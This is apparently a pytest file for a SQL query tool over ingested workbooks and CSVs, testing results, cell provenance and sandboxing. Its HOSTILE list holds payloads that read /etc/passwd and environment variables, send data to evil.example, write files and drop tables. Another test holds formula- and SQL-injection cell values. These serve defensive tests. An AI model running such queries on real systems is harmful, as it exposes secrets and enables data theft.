"""Questions over real workbooks, read by the real reader and computed by the real engine."""

import asyncio
import hashlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from ingest.pipeline import ingest_document
from knowledge.base import KnowledgeBase
from service.builtin.querying import QueryFailed, Table, query
from service.builtin.tables import Tables
from service.tools import CallContext, ToolArgumentsInvalid, ToolResult
from tests.knowledge.library import open_base

CONTEXT = CallContext(team="t", member="m", assistant="a")
ROWS = [
    ("North", 1200.5, "2024-01-15", "5%"),
    ("South", 300, "2024-02-01", "10%"),
    ("North", 99.5, "2024-03-09", "5%"),
    (None, 7, "2024-04-01", "1%"),
]


def put(base: KnowledgeBase, path: Path) -> None:
    content = path.read_bytes()
    document = base.accept(
        path,
        name=path.name,
        media_type="application/octet-stream",
        sha256=hashlib.sha256(content).hexdigest(),
        size=len(content),
    )
    assert document.pending_sha256 is not None
    ingest_document(base, document.id, document.pending_sha256)


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tables]:
    folder = tmp_path_factory.mktemp("tables")
    base = open_base(folder)
    book = openpyxl.Workbook()
    sales = book.active
    sales.title = "Sales 2024"
    sales.append(["Report of the year"])
    sales.append(["Region", "Amount", "Day", "Share"])
    for row in ROWS:
        sales.append(row)
    sales.append(["합계", 1607, None, None])
    codes = book.create_sheet("코드")
    codes.append(["코드", "이름"])
    codes.append(["007", "서울"])
    codes.append(["010", "부산"])
    book.save(folder / "book.xlsx")
    put(base, folder / "book.xlsx")
    (folder / "staff.csv").write_text('name,team,salary\nAnn,a,"3,000"\nBob,b,"2,500"\nCho,a,"4,100"\n')
    put(base, folder / "staff.csv")
    yield Tables((base,))
    base.close()


def run(tables: Tables, sql: str = "") -> ToolResult:
    preview = tables.preview({"sql": sql} if sql else {})
    assert preview.host == ""
    return asyncio.run(tables.call(preview.arguments, CONTEXT))


def rows(result: ToolResult) -> list[list[Any]]:
    assert result.ok, result.text
    return list(result.parts[0]["rows"])


def test_without_a_query_it_lists_tables_columns_and_totals(tables: Tables) -> None:
    text = run(tables).text
    assert "book_sales_2024: book.xlsx, 'Sales 2024'!A3:D7, 5 rows" in text
    assert "amount DECIMAL(38,1) (Amount)" in text
    assert "Row 7 looks like a total" in text
    assert "book_코드" in text
    assert "staff: staff.csv, lines 2-4, 3 rows" in text


@pytest.mark.parametrize(
    ("sql", "expected", "cells"),
    [
        (
            "SELECT region, sum(amount) FROM book_sales_2024 WHERE row_number <> 7 GROUP BY region ORDER BY 2 DESC",
            [["North", "1300.0"], ["South", "300.0"], [None, "7.0"]],
            "'Sales 2024'!A3:D6",
        ),
        ("SELECT count(*) FROM book_sales_2024 WHERE region = 'North'", [["2"]], "'Sales 2024'!A3:D3, A5:D5"),
        ("SELECT max(share) FROM book_sales_2024", [["0.10"]], "'Sales 2024'!A3:D7"),
        ("SELECT sum(salary) FROM staff WHERE team = 'a'", [["7100"]], "lines 2, 4"),
        ("SELECT name FROM staff ORDER BY salary DESC LIMIT 1", [["Cho"]], "lines 2-4"),
        ("SELECT count(*) FROM staff WHERE salary < 0", [["0"]], None),
        ("SELECT 이름 FROM book_코드 WHERE 코드 = '007'", [["서울"]], "코드!A2:B2"),
        (
            "SELECT count(*) FROM book_sales_2024 WHERE day >= DATE '2024-02-01' AND region IS NOT NULL",
            [["2"]],
            "'Sales 2024'!A4:D5",
        ),
    ],
)
def test_results_are_computed_and_name_the_cells_they_rest_on(
    tables: Tables, sql: str, expected: list[list[Any]], cells: str | None
) -> None:
    result = run(tables, sql)
    assert rows(result) == expected
    (source,) = result.parts[0]["sources"]
    assert source["locator"] == cells
    assert cells is None or cells in result.text


def test_a_join_rests_on_both_tables(tables: Tables) -> None:
    result = run(tables, "SELECT count(*) FROM staff s JOIN staff t ON s.team = t.team, book_코드")
    assert {source["document"]["name"] for source in result.parts[0]["sources"]} == {"staff.csv", "book.xlsx"}


def test_a_wrong_query_is_told_what_there_is(tables: Tables) -> None:
    result = run(tables, "SELECT wages FROM staff")
    assert not result.ok
    assert "wages" in result.text
    assert "staff(name, team, salary)" in result.text
    with pytest.raises(ToolArgumentsInvalid):
        tables.preview({"sql": "x" * 5000})


def test_people_see_no_rows_where_documents_are_kept_to_editors(tables: Tables) -> None:
    assert run(Tables(tables.bases, shows=False), "SELECT * FROM staff").parts == ()


HOSTILE = [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_text('/proc/self/environ')",
    "SELECT * FROM '/etc/hosts'",
    "SELECT * FROM glob('/*')",
    "SELECT * FROM read_csv('https://evil.example/?q=' || (SELECT name FROM staff))",
    "COPY staff TO '/tmp/out.csv'",
    "ATTACH '/tmp/other.db'",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access = true",
    "PRAGMA enable_external_access = true",
    "SELECT 1; DROP TABLE staff",
    "DROP TABLE staff",
    "UPDATE staff SET name = 'x'",
    "CREATE TABLE other AS SELECT 1",
    "EXPORT DATABASE '/tmp/x'",
    "SELECT getenv('HOME')",
    "SELECT * FROM sqlite_scan('/tmp/x.db', 't')",
]


@pytest.mark.parametrize("sql", HOSTILE)
def test_a_query_reaches_nothing_but_the_tables(sql: str) -> None:
    with pytest.raises(QueryFailed):
        query(
            [
                Table(
                    name="staff",
                    columns=[("row_number", "BIGINT"), ("name", "VARCHAR")],
                    values=[[2], ["Ann"]],
                )
            ],
            sql,
            row="row_number",
        )


def test_cells_are_data_whatever_they_say(tmp_path: Path) -> None:
    base = open_base(tmp_path)
    (tmp_path / "odd.csv").write_text(
        '"a"";DROP","b\'--",row_number\n"1); DROP TABLE x; --",2,3\n=cmd|\'/C\',5,6\n'
    )
    put(base, tmp_path / "odd.csv")
    listed = run(Tables((base,)))
    assert "a_drop VARCHAR" in listed.text
    assert "row_number_2 BIGINT" in listed.text
    assert rows(run(Tables((base,)), "SELECT a_drop FROM odd"))[0] == ["1); DROP TABLE x; --"]
    base.close()


def test_without_spreadsheets_it_says_so(tmp_path: Path) -> None:
    base = open_base(tmp_path)
    assert "no spreadsheet" in run(Tables((base,))).text
    base.close()
